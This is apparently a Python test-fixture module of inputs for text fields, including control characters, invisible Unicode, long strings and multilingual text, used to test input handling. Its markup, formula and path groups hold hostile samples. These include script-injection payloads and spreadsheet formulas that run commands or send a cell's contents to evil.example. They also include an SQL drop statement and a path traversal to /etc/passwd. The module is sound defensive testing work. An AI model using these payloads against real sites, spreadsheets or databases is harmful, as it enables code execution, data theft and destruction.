"""What people, their keyboards and their enemies may type: one list for every text field.

`TEXTS` is all of it by name. `REFUSED` can be stored nowhere. `UNSEEN` counts as nothing. `AS_TYPED` has to come back
exactly as it was typed, wherever it is not too long: it looks dangerous and is only words.
"""

import unicodedata

REFUSED = {
    "NUL": "sea\x00side",
    "NUL alone": "\x00",
    "lone high surrogate": "sea \ud83d side",
    "lone low surrogate": "\udc00",
    "bell": "ring\x07",
    "ANSI escape": "\x1b[31mred\x1b[0m alert",
    "backspace": "abc\x08\x08",
    "form feed": "one\x0ctwo",
    "all C0 controls": "x" + "".join(map(chr, [*range(1, 9), *range(11, 13), *range(14, 32)])),
    "all C1 controls": "x" + "".join(chr(point) for point in range(0x80, 0xA0) if point != 0x85),
    "delete": "x\x7f",
    "no character": "x\uffff",
    "no character, high": "x\U0010ffff",
    "a hundred combining marks": "e" + "\u0301" * 100,
}

UNSEEN = {
    "empty": "",
    "blanks": "   \t ",
    "line ends": "\r\n\n\r",
    "no-break blanks": "\u00a0\u202f\u3000",
    "zero width": "\u200b\u200c\u200d\u2060",
    "byte order mark": "\ufeff",
    "Hangul filler": "\u3164\u115f",
    "Braille blank": "\u2800",
    "direction marks": "\u200e\u200f\u202e\u2066\u2069",
    "a mark without its letter": "\u0301",
    "soft hyphens": "\u00ad\u00ad",
    "tag signs": "\U000e0041\U000e007f",
}

LONG = {
    "280 signs": "a" * 280,
    "281 signs": "a" * 281,
    "280 wide emoji": "🌊" * 280,
    "1 000 signs": "word " * 200,
    "20 000 signs": "x" * 20_000,
    "1 000 000 signs": "x" * 1_000_000,
    "1 000 lines": "line\n" * 1000,
    "a word of 5 000 letters": "Donaudampfschiff" * 313,
}

LANGUAGES = {
    "Belgian places": "'s-Gravenpolder, Bray-Dunes, Sint-Idesbald, Ĳzendijke, Sluĳs",
    "French": "« L'œuvre » de Wissant : où ça ? Été, août, naïve.",
    "Dutch": "Zeeuws-Vlaanderen: coördinatie, reünie, 's ochtends; ijs en Ĳs",
    "decomposed": unicodedata.normalize("NFD", "Café à Étaples"),
    "Turkish dotless i": "Iıİi",
    "ligatures": "ﬁnd the oﬃce",
    "full width": "ＦＵＬＬ　ｗｉｄｔｈ",
    "Arabic": "السياحة على الساحل",
    "Hebrew": "תיירות בחוף",
    "mixed directions": "Kent \u202eTNEK\u202c and شاطئ 2019",
    "Chinese": "海边旅游创新",
    "family emoji": "👩‍👩‍👧‍👦 👋🏽 🇧🇪🇫🇷🇬🇧🇳🇱",
    "digits of elsewhere": "٣ ideas, १२ firms",
    "byte order mark in front": "\ufeffCanterbury",
    "old line ends": "one\rtwo\r\nthree\u2028four\u2029five\x85six",
    "private use": "logo \uf8ff",
}

MARKUP = {
    "script": "<script>document.title='owned'</script>",
    "image that fails": "<img src=x onerror=\"document.title='owned'\">",
    "svg": "<svg onload=\"document.title='owned'\"></svg>",
    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "link with script": "[click](javascript:alert(1))",
    "data link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "end of a text area": "</textarea></title></style><script>alert(1)</script>",
    "comment": "<!-- all that follows",
    "CDATA": "<![CDATA[x]]>",
    "style": "<style>body{display:none}</style> url(https://tracker.example/x.css)",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "frame": '<iframe src="https://evil.example"></iframe>',
    "entities": "&lt;script&gt; &amp;amp; &#x3c;b&#x3e; &nbsp;",
    "foreign image": "![pixel](https://tracker.example/pixel.png)",
    "foreign image by reference": "![pixel][1]\n\n[1]: https://tracker.example/pixel.png",
    "plain address": "see https://tracker.example/path?x=1&y=2",
    "heading": "# A heading\n## another",
    "list": "- one\n- two\n1. three",
    "table": "|a|b|\n|-|-|\n|1|2|",
    "emphasis": "*a* **b** _c_ __d__ ~~e~~ `f`",
    "code block": "```python\nimport os\n```",
    "quote": "> somebody said",
    "rule": "a\n\n---\n\nb",
    "Streamlit colour": ":red[stop] :blue-background[now] :rainbow[x] :small[tiny]",
    "Streamlit icon": ":material/delete: :streamlit: :smile: :shortcode:",
    "formula": "$E=mc^2$ $$\\href{https://evil.example}{x}$$ costs $5 or $6",
    "backslashes": "\\[a\\](b) \\\\ \\n \\u0041",
    "footnote": "fact[^1]\n\n[^1]: note",
    "chart expression": "datum.x > 0 ? alert(1) : 0",
    "field name": "a.b[c]\\d:Q 'e' \"f\"",
    "template": "{name} {0} {{x}} %(name)s %s ${x} {% raw %}",
    "attribute": '"><b onmouseover=alert(1)>',
}

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1,1)",
    "tab first": "\t=1+1",
    "pipe": "|calc",
    "full width equals": "＝1+1",
    "full width plus": "＋1",
    "full width minus": "－1",
    "full width at": "＠SUM(1)",
    "blank first": " =1+1",
    "quote first": "'=1+1",
    "hyperlink": '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "command": "=cmd|'/C calc'!A0",
    "dynamic data exchange": '=DDE("cmd";"/C calc";"x")',
    "second line": "harmless\n=1+1",
    "after a separator": "harmless;=1+1,=2+2",
    "quotes": '"a";"b"\n"c',
}

STATEMENTS_AND_PATHS = {
    "quote": "O'Brien's \"inn\"",
    "drop": "'; DROP TABLE vote; --",
    "comment": "/* x */ -- y",
    "wildcards": "100 % _under_ [a-z] *",
    "path up": "../../../../etc/passwd",
    "Windows path": "C:\\Windows\\System32 \\\\server\\share",
    "device": "CON",
    "dash": "-rf --help",
    "log injection": "x\nINFO 2019-06-13 facilitator: everything is well",
    "address": "?tt=ABC&lang=xx#top",
    "JSON": '{"a": [1, null, NaN]}, "b"',
    "file name of 300 bytes": "é" * 150,
}

NUMBERS = {
    "decimal comma": "1,5",
    "grouped": "1.234,5",
    "too big": "1e400",
    "not a number": "NaN",
    "infinity": "inf",
    "minus nothing": "-0",
    "zeros in front": "0012",
    "almost a date": "12-05",
    "no date": "31/02/2019",
    "missing": "NULL",
    "None": "None",
    "yes": "true",
}

#: Words that must come back as they are.
AS_TYPED = {**MARKUP, **FORMULAS, **STATEMENTS_AND_PATHS, **NUMBERS}

TEXTS = {
    f"{group}: {name}": text
    for group, texts in {
        "refused": REFUSED,
        "unseen": UNSEEN,
        "long": LONG,
        "languages": LANGUAGES,
        "markup": MARKUP,
        "formulas": FORMULAS,
        "statements and paths": STATEMENTS_AND_PATHS,
        "numbers": NUMBERS,
    }.items()
    for name, text in texts.items()
}
